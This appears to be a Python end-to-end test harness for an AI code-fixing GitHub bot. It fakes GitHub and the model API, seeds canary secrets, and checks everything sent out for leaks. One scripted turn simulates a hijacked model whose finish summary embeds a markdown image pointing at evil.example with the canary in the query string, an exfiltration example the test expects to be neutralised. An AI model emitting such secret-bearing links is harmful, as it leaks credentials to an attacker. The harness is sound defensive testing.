@@ -1,0 +1,238 @@
+"""The world an end-to-end test runs in: a real `ai-fix serve` process on loopback, GitHub faked at
+the HTTP level (served on loopback, every request checked against GitHub's OpenAPI), the model faked
+by a Messages API server on loopback, a bare git repository on disk as the remote, and the real
+bubblewrap sandbox running the sample repository's own tests.
+
+Every secret the service holds is a canary; `leaks()` looks for them in everything sent out.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.parse
+from contextlib import ExitStack
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import httpx
+
+from bot.commands.demo import make_repo, sample
+from bot.model.scripted import ScriptedModel, Turn, call, turn
+from tests.support.fake_pulls import PullsGitHub
+from tests.support.model import FakeMessagesAPI, serve_fake_api
+from tests.support.server import serve
+from tests.support.webhooks import INSTALLATION, REPO, deliver
+
+CANARY = "canary-Zq8Lm2Vx7Rt4"
+SECRETS = {
+    "AIFIX_WEBHOOK_SECRET": f"whsec-{CANARY}-webhook",
+    "AIFIX_ADMIN_TOKEN": f"admin-{CANARY}-token",
+    "AIFIX_ANTHROPIC_API_KEY": f"sk-ant-{CANARY}-apikey",
+}
+MODEL = "claude-haiku-4-5"
+SENDER = "Codertocat"
+FINAL = {"done", "failed", "cancelled", "rejected", "needs_clarification", "handed_off"}
+
+
+PYTHON = Path(sys.executable)
+"""The test run's Python (with pytest), mounted read-only into the sandbox so the checks report each test."""
+
+
+PLAN = call(
+    "plan",
+    steps=[{"do": "make add() return a + b", "done_when": "tests: test_add and test_total pass"}],
+    impact=["calc.py"],
+)
+FIX = call(
+    "str_replace_based_edit_tool",
+    command="str_replace",
+    path="calc.py",
+    old_str="    return a - b",
+    new_str="    return a + b",
+)
+CHECK = call("run_checks", names=["tests"], expect="tests: test_add passes")
+FIX_SCRIPT = [
+    turn("add(2, 3) must be 5: fix add() and run the tests.", PLAN),
+    turn("Look at the code first.", call("str_replace_based_edit_tool", command="view", path="calc.py")),
+    turn("add() subtracts: use a + b.", FIX, CHECK),
+    # A hijacked model trying to leak a secret and fetch an image: both must arrive inert.
+    turn(
+        "Done.",
+        call("finish", summary=f"Fixed add(). ![x](https://evil.example/p.png?k={CANARY})", risks=["none known"]),
+    ),
+]
+
+
+def config(max_steps: int = 5) -> str:
+    return (
+        f"checks:\n  - name: tests\n    run: env PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 {PYTHON} -m pytest -q tests\n    timeout: 60\n"
+        'scope:\n  allow: ["**"]\n  deny: []\n'
+        f"budget:\n  max_steps: {max_steps}\n  max_cost_usd: 1\n  max_wall_minutes: 5\n  max_files_changed: 3\n"
+        "  max_lines_changed: 40\n  max_retries_same_failure: 2\n"
+        f"model:\n  name: {MODEL}\n  small: {MODEL}\n"
+    )
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@dataclass
+class World:
+    root: Path
+    github: PullsGitHub
+    model_api: FakeMessagesAPI
+    url: str
+    bare: Path
+    log: Path
+    client: httpx.Client = field(init=False)
+
+    def __post_init__(self) -> None:
+        self.client = httpx.Client(base_url=self.url, timeout=10)
+
+    # ---- driving it ------------------------------------------------------------------------
+
+    def script(self, turns: list[Turn]) -> None:
+        self.model_api.scripted = ScriptedModel(turns)
+
+    def send(self, event: str, payload: dict[str, Any], *, delivery: str | None = None) -> httpx.Response:
+        payload["repository"].update(clone_url=f"file://{self.bare}", default_branch="main")
+        response = deliver(self.client, event, payload, delivery=delivery, secret=SECRETS["AIFIX_WEBHOOK_SECRET"])
+        assert response.status_code in (200, 202), response.text
+        return response
+
+    def tasks(self) -> list[dict[str, Any]]:
+        response = self.client.get("/tasks", headers={"Authorization": f"Bearer {SECRETS['AIFIX_ADMIN_TOKEN']}"})
+        return list(response.json()["tasks"])
+
+    def wait(self, job_id: int, timeout: float = 90) -> dict[str, Any]:
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            task = next((t for t in self.tasks() if t["id"] == job_id), None)
+            if task and task["status"] in FINAL:
+                return task
+            time.sleep(0.1)
+        raise AssertionError(f"job {job_id} did not finish in {timeout} s; server log:\n{self.log.read_text()[-6000:]}")
+
+    def run(self, event: str, payload: dict[str, Any]) -> dict[str, Any]:
+        job_id = self.send(event, payload).json()["job_id"]
+        return self.wait(job_id)
+
+    # ---- looking at it ---------------------------------------------------------------------
+
+    def git(self, *args: str) -> str:
+        return subprocess.run(
+            ["git", f"--git-dir={self.bare}", *args], capture_output=True, text=True, check=True
+        ).stdout
+
+    def pull(self, number: int) -> dict[str, Any]:
+        return self.github.pulls[(REPO, number)]
+
+    def leaks(self) -> list[str]:
+        return leaks(self.github, self.model_api)
+
+
+def sent(github: PullsGitHub, model_api: FakeMessagesAPI) -> list[str]:
+    """Everything sent to the fake GitHub (paths, queries, bodies) and to the fake model, as text."""
+    out = [f"{c.path} {json.dumps(c.query)} {json.dumps(c.json)}" for c in github.calls]
+    return out + [json.dumps(c) for c in github.graphql_calls] + list(model_api.bodies)
+
+
+def leaks(github: PullsGitHub, model_api: FakeMessagesAPI) -> list[str]:
+    """Secrets (whole, 8-character pieces, base64, URL-encoded) found in anything sent out (headers aside)."""
+    key_lines = [line for line in github.private_key_pem.splitlines() if "PRIVATE KEY" not in line]
+    values = [*SECRETS.values(), *key_lines, *github.tokens]  # tokens: every installation token minted
+    forms = {CANARY}
+    for v in values:
+        forms.update({v, base64.b64encode(v.encode()).decode().rstrip("="), urllib.parse.quote(v, safe="")})
+        forms.update(v[i : i + 8] for i in range(0, len(v) - 8, 4))
+    forms = {f for f in forms if len(f) >= 8 and f != "sk-ant-c"}
+    return sorted({f for text in sent(github, model_api) for f in forms if f in text})
+
+
+def make_remote(root: Path) -> Path:
+    """The sample repository (its own config, a secret in `.env`) pushed to a bare repository on disk."""
+    files, _issue = sample()
+    files[".github/ai-fix.yml"] = config()
+    files[".env"] = f"DEPLOY_TOKEN={CANARY}-in-the-repo\n"
+    repo = make_repo(root / "origin", files)
+    bare = root / "remote.git"
+    subprocess.run(["git", "clone", "-q", "--bare", str(repo), str(bare)], check=True)
+    return bare
+
+
+def make_github(bare: Path, app_id: int) -> PullsGitHub:
+    github = PullsGitHub(app_id=app_id)
+    github.installations[INSTALLATION] = [REPO]
+    github.permissions[(REPO, SENDER)] = "admin"
+    github.git_dirs[REPO] = bare
+    return github
+
+
+def service_env(root: Path, github: PullsGitHub, github_url: str, model_url: str) -> dict[str, str]:
+    """The service's settings, as `ai-fix serve` reads them from the environment."""
+    return {
+        **SECRETS,
+        "AIFIX_APP_ID": str(github.app_id),
+        "AIFIX_PRIVATE_KEY": github.private_key_pem,
+        "AIFIX_GITHUB_API_URL": github_url,
+        "AIFIX_ANTHROPIC_BASE_URL": model_url,
+        "AIFIX_DATABASE_URL": f"sqlite:///{root / 'ai-fix.db'}",
+        "AIFIX_PIPELINE": "bot.commands.toolkit:delivery_pipeline",
+        "AIFIX_SANDBOX": "bwrap",
+        "AIFIX_SANDBOX_RO_PATHS": json.dumps(
+            sorted({sys.prefix, sys.base_prefix, str(Path(sys.executable).resolve().parent.parent)})
+        ),
+        "AIFIX_WORK_DIR": str(root / "work"),
+        "AIFIX_WORKERS": "1",
+    }
+
+
+def start_world(root: Path, stack: ExitStack) -> World:
+    bare = make_remote(root)
+    github = make_github(bare, app_id=4343)
+    github_url = stack.enter_context(serve(github.asgi()))
+
+    model_api, model_url = stack.enter_context(serve_fake_api(ScriptedModel([])))
+
+    port = free_port()
+    log = root / "serve.log"
+    env = {
+        **{k: v for k, v in os.environ.items() if not k.startswith("AIFIX_")},
+        **service_env(root, github, github_url + "/", model_url),
+    }
+    command = [str(Path(sys.executable).with_name("ai-fix")), "serve", "--host", "127.0.0.1", "--port", str(port)]
+    with log.open("wb") as out:
+        process = subprocess.Popen(command, env=env, stdout=out, stderr=subprocess.STDOUT, cwd=root)
+    stack.callback(_stop, process)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.monotonic() + 30
+    while True:
+        try:
+            if httpx.get(f"{url}/healthz", timeout=1).status_code == 200:
+                break
+        except httpx.TransportError:
+            pass
+        if process.poll() is not None or time.monotonic() > deadline:
+            raise RuntimeError(f"ai-fix serve did not start:\n{log.read_text()}")
+        time.sleep(0.05)
+    return World(root, github, model_api, url, bare, log)
+
+
+def _stop(process: subprocess.Popen[bytes]) -> None:
+    process.send_signal(signal.SIGTERM)
+    try:
+        process.wait(timeout=20)
+    except subprocess.TimeoutExpired:
+        process.kill()
+        process.wait()
